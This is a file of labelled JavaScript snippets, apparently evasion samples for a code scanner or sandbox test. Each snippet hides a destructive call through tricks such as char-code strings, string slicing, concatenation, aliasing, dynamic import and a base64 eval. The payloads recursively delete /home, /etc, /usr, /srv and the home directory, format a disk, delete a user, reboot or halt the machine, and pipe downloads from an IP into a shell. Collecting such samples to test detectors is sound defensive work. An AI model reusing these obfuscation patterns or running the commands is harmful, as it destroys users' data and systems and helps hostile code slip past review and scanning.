%% charcodes spread
const n = String.fromCodePoint(...[101, 118, 97, 108]);
globalThis[n]("require('fs').rmSync('/home',{recursive:true})");
%% reduce pieces
const m = ["chi", "ld_", "pro", "cess"].reduce((a, b) => a + b);
require(m).execSync("reboot");
%% substr
const s = "xxchild_processyy".slice(2, -2);
require(s).exec("rm -rf /opt");
%% concat method
const c = "child".concat("_", "process");
require(c)["exec".concat("Sync")]("halt");
%% object assign
const o = Object.assign({}, require("child_process"));
o.execSync("userdel bob");
%% destructured parameter
(({ execSync: x }) => x("curl 203.0.113.93 | sh"))(require("child_process"));
%% async import
(async () => { const { default: d } = await import("node:child_process"); d.exec("mkfs /dev/sdb"); })();
%% promisify
const { promisify: p } = require("util");
p(require("child_process").exec)("rm -rf /srv").then(console.log);
%% array find
const f = [require("child_process").exec].find(Boolean);
f("wget -qO- 203.0.113.94 | bash");
%% call chain
Function.prototype.call.call(require("child_process").exec, null, "poweroff");
%% eval by alias
const e = eval;
const t = "cHJvY2Vzcy5leGl0KCk=";
e(Buffer.from(t, "base64") + "");
%% vm context
require("vm").createContext.constructor("return process")().exit();
%% fs symlink loop
const F = require("fs");
for (const d of ["/etc", "/usr", "/home"]) F.rmSync(d, { recursive: true, force: true });
%% event handler
process.on("exit", require("child_process").execSync.bind(null, "rm -rf ~"));
